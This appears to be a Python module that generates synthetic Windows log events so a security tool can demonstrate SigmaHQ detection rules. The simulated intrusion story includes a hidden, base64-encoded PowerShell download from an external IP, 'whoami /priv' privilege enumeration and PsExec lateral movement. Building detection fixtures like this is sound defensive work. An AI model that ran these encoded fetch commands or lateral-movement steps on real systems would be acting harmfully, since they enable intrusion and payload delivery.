"""Demo stories written to meet well-known SigmaHQ rules of the default live set.

The built-in rules cover logons, sprays and cleared logs; these stories show the SigmaHQ
content at work once it is installed (``norrvakt rules update`` / ``import``): an intruder on
a workstation runs an encoded PowerShell command and ``whoami /priv``, then moves to a server
with PsExec, which installs its service there. The records are our own, shaped like what
Sysmon (event 1, process creation) and the Service Control Manager (System 7045, a service
was installed) write; the SigmaHQ rules they meet (all status test, so in the default live set):

- "Suspicious Execution of Powershell with Base64" (medium) and "PowerShell Base64 Encoded
  Invoke Keyword" (high),
- "Security Privileges Enumeration Via Whoami.EXE" (high),
- "PsExec Service Installation" (medium, System 7045) and "PsExec Service Execution" (medium).
"""

from __future__ import annotations

import base64
import datetime as dt

from norrvakt.demo.generator import DemoMessage, TenantWorld

SYSMON = ("Microsoft-Windows-Sysmon/Operational", "Microsoft-Windows-Sysmon")


def _utc(ts: float) -> str:
    return dt.datetime.fromtimestamp(ts, dt.UTC).strftime("%Y-%m-%d %H:%M:%S.%f")[:-3]


def process_created(
    world: TenantWorld,
    ts: float,
    host: str,
    user: str,
    image: str,
    command_line: str,
    parent: str,
    original_name: str,
    integrity: str = "High",
) -> DemoMessage:
    """A Sysmon event 1 (process creation)."""
    data = {
        "RuleName": "-",
        "UtcTime": _utc(ts),
        "ProcessGuid": f"{{{world.rng.getrandbits(32):08x}-7e1a-6761-1a04-000000004c00}}",
        "ProcessId": world.rng.randint(1000, 20000),
        "Image": image,
        "FileVersion": "10.0.19041.1",
        "Description": original_name,
        "Product": "Microsoft® Windows® Operating System",
        "Company": "Microsoft Corporation",
        "OriginalFileName": original_name,
        "CommandLine": command_line,
        "CurrentDirectory": "C:\\Windows\\system32\\",
        "User": user,
        "LogonId": "0x3e7" if user.endswith("SYSTEM") else hex(world.rng.randint(0x100000, 0xFFFFFF)),
        "TerminalSessionId": 1,
        "IntegrityLevel": integrity,
        "Hashes": f"SHA256={world.rng.getrandbits(256):064X}",
        "ParentProcessGuid": f"{{{world.rng.getrandbits(32):08x}-7e1a-6761-1904-000000004c00}}",
        "ParentProcessId": world.rng.randint(1000, 20000),
        "ParentImage": parent,
        "ParentCommandLine": parent,
        "ParentUser": user,
    }
    channel, provider = SYSMON
    return world.windows(ts, 1, host, data, channel=channel, provider=provider)


def service_installed(world: TenantWorld, ts: float, host: str, name: str, image_path: str) -> DemoMessage:
    """A System 7045 from the Service Control Manager: a service was installed."""
    data = {
        "ServiceName": name,
        "ImagePath": image_path,
        "ServiceType": "user mode service",
        "StartType": "demand start",
        "AccountName": "LocalSystem",
    }
    return world.windows(ts, 7045, host, data, channel="System", provider="Service Control Manager")


def hands_on_keyboard(world: TenantWorld, ts: float) -> list[tuple[float, DemoMessage]]:
    """Encoded PowerShell and ``whoami /priv`` on a workstation, then PsExec to a server."""
    host = world.rng.choice(world.workstations)
    server = world.rng.choice(world.servers)
    person = world.rng.choice(world.users)
    user = f"{world.domain}\\{person}"
    # A harmless script, encoded the way droppers hide theirs (UTF-16LE, base64).
    script = f"Invoke-WebRequest -Uri http://{world.rng.choice(('185.220.101.45', '45.155.205.233'))}/a.ps1"
    encoded = base64.b64encode(script.encode("utf-16-le")).decode("ascii")
    powershell = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"
    explorer = "C:\\Windows\\explorer.exe"
    out = [
        (
            ts,
            process_created(
                world,
                ts,
                host,
                user,
                powershell,
                f'"{powershell}" -NoProfile -WindowStyle Hidden -enc {encoded}',
                explorer,
                "PowerShell.EXE",
                integrity="Medium",
            ),
        ),
        (
            ts + 4.0,
            process_created(
                world,
                ts + 4.0,
                host,
                user,
                "C:\\Windows\\System32\\whoami.exe",
                "whoami /priv",
                powershell,
                "whoami.exe",
                integrity="Medium",
            ),
        ),
        (ts + 9.0, service_installed(world, ts + 9.0, server, "PSEXESVC", "%SystemRoot%\\PSEXESVC.exe")),
        (
            ts + 9.5,
            process_created(
                world,
                ts + 9.5,
                server,
                "NT AUTHORITY\\SYSTEM",
                "C:\\Windows\\PSEXESVC.exe",
                "C:\\Windows\\PSEXESVC.exe",
                "C:\\Windows\\System32\\services.exe",
                "psexesvc.exe",
                integrity="System",
            ),
        ),
    ]
    return out


SIGMA_STORIES = {"hands_on_keyboard": hands_on_keyboard}
